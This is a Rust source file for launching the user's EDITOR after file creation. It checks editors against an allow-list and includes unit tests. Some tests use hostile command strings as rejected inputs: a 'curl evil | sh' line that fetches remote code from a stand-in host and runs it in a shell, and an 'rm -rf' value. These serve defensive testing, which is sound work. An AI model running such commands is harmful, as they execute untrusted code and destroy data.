//! Best-effort editor launch after `create`
//!
//! The lifecycle only depends on the [`EditorLauncher`] trait; nothing about
//! a module's correctness hinges on an editor actually opening.

use async_trait::async_trait;
use std::path::{Path, PathBuf};
use std::time::Duration;
use tokio::process::Command;
use tracing::{debug, error, warn};

/// Editors that may be launched automatically
pub const SAFE_EDITORS: &[&str] = &[
    "nano", "vim", "vi", "emacs", "code", "notepad", "notepad++", "subl", "sublime", "atom",
    "gedit", "kate", "micro", "joe", "ne",
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EditorOutcome {
    /// Editor ran and exited successfully
    Opened,
    /// Still running after the timeout; assumed to have opened in the background
    Backgrounded,
    /// Editor was not attempted
    Skipped(String),
    /// Editor was attempted and failed
    Failed(String),
}

impl EditorOutcome {
    pub fn opened(&self) -> bool {
        matches!(self, EditorOutcome::Opened | EditorOutcome::Backgrounded)
    }
}

#[async_trait]
pub trait EditorLauncher: Send + Sync {
    async fn open(&self, files: &[PathBuf]) -> EditorOutcome;
}

/// Launcher that never opens anything
#[derive(Debug, Default, Clone)]
pub struct NoopEditor;

#[async_trait]
impl EditorLauncher for NoopEditor {
    async fn open(&self, _files: &[PathBuf]) -> EditorOutcome {
        EditorOutcome::Skipped("editor disabled".to_string())
    }
}

/// Launches the editor named by `EDITOR` when it is on the allow-list
#[derive(Debug, Clone)]
pub struct SystemEditor {
    editor: Option<String>,
    timeout: Duration,
}

impl SystemEditor {
    pub fn new(editor: Option<String>, timeout: Duration) -> Self {
        Self { editor, timeout }
    }

    pub fn from_env(timeout: Duration) -> Self {
        Self::new(std::env::var("EDITOR").ok(), timeout)
    }

    /// Split the editor command and check its program against the allow-list
    pub fn parse_command(editor: &str) -> Result<(String, Vec<String>), String> {
        let mut parts = shell_words::split(editor)
            .map_err(|e| format!("could not parse EDITOR '{editor}': {e}"))?
            .into_iter();
        let program = parts
            .next()
            .ok_or_else(|| "EDITOR is empty".to_string())?;

        let name = editor_name(&program);
        if !SAFE_EDITORS.contains(&name.as_str()) {
            return Err(format!("Editor '{editor}' not in whitelist"));
        }

        Ok((program, parts.collect()))
    }
}

fn editor_name(program: &str) -> String {
    let name = Path::new(program)
        .file_name()
        .map(|n| n.to_string_lossy().to_lowercase())
        .unwrap_or_default();
    name.strip_suffix(".exe").map(str::to_string).unwrap_or(name)
}

#[async_trait]
impl EditorLauncher for SystemEditor {
    async fn open(&self, files: &[PathBuf]) -> EditorOutcome {
        let Some(editor) = self.editor.as_deref().filter(|e| !e.trim().is_empty()) else {
            debug!("No EDITOR environment variable set");
            return EditorOutcome::Skipped("EDITOR is not set".to_string());
        };

        let (program, extra_args) = match Self::parse_command(editor) {
            Ok(parsed) => parsed,
            Err(reason) => {
                warn!("{}. Skipping auto-open.", reason);
                return EditorOutcome::Skipped(reason);
            }
        };

        let program_path = match which::which(&program) {
            Ok(path) => path,
            Err(_) => {
                warn!("Editor '{}' not found", program);
                return EditorOutcome::Failed(format!("editor '{program}' not found"));
            }
        };

        let mut child = match Command::new(&program_path)
            .args(&extra_args)
            .args(files)
            .kill_on_drop(false)
            .spawn()
        {
            Ok(child) => child,
            Err(e) => {
                error!("Failed to open editor: {}", e);
                return EditorOutcome::Failed(e.to_string());
            }
        };

        match tokio::time::timeout(self.timeout, child.wait()).await {
            Ok(Ok(status)) if status.success() => EditorOutcome::Opened,
            Ok(Ok(status)) => {
                warn!("Editor exited with {}", status);
                EditorOutcome::Failed(format!("editor exited with {status}"))
            }
            Ok(Err(e)) => {
                error!("Failed to wait for editor: {}", e);
                EditorOutcome::Failed(e.to_string())
            }
            Err(_) => {
                debug!("Editor opened in background (timeout)");
                EditorOutcome::Backgrounded
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_allowed_editor_with_arguments() {
        let (program, args) = SystemEditor::parse_command("code --wait").unwrap();
        assert_eq!(program, "code");
        assert_eq!(args, vec!["--wait"]);
    }

    #[test]
    fn test_parse_strips_directories_and_exe_suffix() {
        assert!(SystemEditor::parse_command("/usr/bin/vim").is_ok());
        assert!(SystemEditor::parse_command(r#""C:/Program Files/Notepad++/notepad++.EXE""#).is_ok());
    }

    #[test]
    fn test_parse_rejects_unlisted_editor() {
        let err = SystemEditor::parse_command("sh -c 'curl evil | sh'").unwrap_err();
        assert!(err.contains("not in whitelist"));
        assert!(SystemEditor::parse_command("").is_err());
    }

    #[tokio::test]
    async fn test_unset_editor_is_skipped() {
        let launcher = SystemEditor::new(None, Duration::from_millis(10));
        let outcome = launcher.open(&[PathBuf::from("/tmp/x")]).await;
        assert!(matches!(outcome, EditorOutcome::Skipped(_)));
        assert!(!outcome.opened());
    }

    #[tokio::test]
    async fn test_unlisted_editor_is_never_spawned() {
        let launcher = SystemEditor::new(Some("rm -rf".to_string()), Duration::from_millis(10));
        let outcome = launcher.open(&[PathBuf::from("/tmp/x")]).await;
        assert!(matches!(outcome, EditorOutcome::Skipped(reason) if reason.contains("whitelist")));
    }

    #[tokio::test]
    async fn test_noop_editor() {
        assert!(!NoopEditor.open(&[]).await.opened());
    }
}
